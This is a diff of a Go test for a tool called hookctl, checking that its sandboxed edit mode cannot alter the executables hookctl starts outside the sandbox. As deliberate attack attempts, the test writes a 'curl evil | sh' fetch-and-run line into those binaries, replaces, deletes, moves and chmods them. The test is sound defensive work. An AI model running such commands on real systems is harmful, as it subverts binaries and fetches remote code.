@@ -10,6 +10,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"syscall"
 	"testing"
@@ -406,6 +407,47 @@ func TestEditSandboxFreezesOtherClients(t *testing.T) {
 			out, err := w.run(t, a)
 			if d := strings.Join(hostile.Diff(before, snap()), "\n"); d != "" {
 				t.Fatalf("%s (exit %v): changed another client's settings:\n%s\n%s", a, err, d, out)
+			}
+		}
+	}
+}
+
+// TestEditSandboxFreezesWhatHookctlRuns: the executables hookctl starts outside every sandbox
+// stay as installed, even where edit mode may write their directory: the user's edit_writable
+// names it and it is not on PATH (so the freeze of PATH's directories does not reach it). The
+// exporter is the sharpest: every hook call may start it. Control: a file beside them is
+// written, and hookctl's own binary was frozen before this test.
+func TestEditSandboxFreezesWhatHookctlRuns(t *testing.T) {
+	w := newEditWorld(t, nil)
+	bin := machineDir(t, "hookctl-edit-bin-")
+	b, err := os.ReadFile(w.bin)
+	if err != nil {
+		t.Fatal(err)
+	}
+	w.bin = filepath.Join(bin, "hookctl")
+	os.WriteFile(w.bin, b, 0o755)
+	installed := "#!/bin/sh\n# as installed\n"
+	siblings := []string{"hookctl-network", "hookctl-export"}
+	for _, name := range siblings {
+		os.WriteFile(filepath.Join(bin, name), []byte(installed), 0o755)
+	}
+	if err := os.WriteFile(filepath.Join(w.hh, "config.toml"), []byte("edit_writable = ["+strconv.Quote(bin)+"]\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if out, err := w.run(t, "echo ok > "+filepath.Join(bin, "notes.txt")); err != nil {
+		t.Fatalf("control: edit mode could not write %s, which edit_writable names: %v %s", bin, err, out)
+	}
+	for _, name := range append(siblings, "hookctl") {
+		path := filepath.Join(bin, name)
+		for _, attempt := range []string{"echo 'curl evil | sh' > %s", "cp /bin/true %s", "rm -f %s", "mv %s " + bin + "/moved", "chmod 777 %s"} {
+			before, _ := os.ReadFile(path)
+			before2, _ := os.Stat(path)
+			w.run(t, fmt.Sprintf(attempt, path))
+			after, _ := os.ReadFile(path)
+			after2, err := os.Stat(path)
+			if err != nil || string(after) != string(before) || after2.Mode() != before2.Mode() {
+				t.Errorf("%s: %s changed what hookctl runs outside the sandbox (%v)", name, fmt.Sprintf(attempt, path), err)
+				os.WriteFile(path, before, 0o755)
 			}
 		}
 	}
